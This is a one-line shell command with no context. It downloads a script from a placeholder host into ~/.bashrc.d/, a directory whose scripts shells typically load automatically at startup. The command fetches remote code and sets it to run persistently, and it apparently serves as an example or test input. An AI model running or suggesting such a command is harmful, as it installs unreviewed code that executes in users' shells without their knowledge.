curl -o ~/.bashrc.d/tool.sh https://host.invalid/tool.sh
